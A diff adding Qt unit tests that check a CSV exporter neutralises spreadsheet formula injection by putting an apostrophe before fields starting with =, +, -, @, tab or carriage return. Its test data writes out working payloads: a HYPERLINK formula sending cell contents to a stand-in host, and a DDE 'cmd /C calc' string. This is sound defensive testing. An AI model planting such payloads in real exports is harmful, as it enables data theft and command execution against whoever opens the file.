@@ -67,6 +67,35 @@ private slots:
         QCOMPARE(doc.rows[1][0], field);
     }
 
+    // Text a spreadsheet would run as a formula is led by an apostrophe (issue 29: a job named
+    // =HYPERLINK(...) ran in whoever opened the report); numbers, negative ones too, stay numbers.
+    void csvNeutralizesFormulas_data()
+    {
+        QTest::addColumn<QString>("field");
+        QTest::addColumn<QString>("written");
+        QTest::newRow("equals") << "=HYPERLINK(\"http://x/?\"&A1,\"x\")"
+                                << "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\"";
+        QTest::newRow("plus") << "+1+cmd|' /C calc'!A0"
+                              << "'+1+cmd|' /C calc'!A0";
+        QTest::newRow("minus") << "-2+3"
+                               << "'-2+3";
+        QTest::newRow("at") << "@SUM(A1:A9)"
+                            << "'@SUM(A1:A9)";
+        QTest::newRow("tab") << "\t=1"
+                             << "'\t=1";
+        QTest::newRow("carriage return") << "\r=1"
+                                         << "\"'\r=1\"";
+        QTest::newRow("inside is fine") << "a=b"
+                                        << "a=b";
+    }
+    void csvNeutralizesFormulas()
+    {
+        QFETCH(QString, field);
+        QFETCH(QString, written);
+        Table t{"t", "T", {"Name", "Value"}, {{textCell(field.toStdString()), numberCell(-2.5, 1)}}};
+        QCOMPARE(QString::fromStdString(toCsv(t)), "Name,Value\r\n" + written + ",-2.5\r\n");
+    }
+
     void csvReaderRefusesMalformedInput_data()
     {
         QTest::addColumn<QByteArray>("csv");
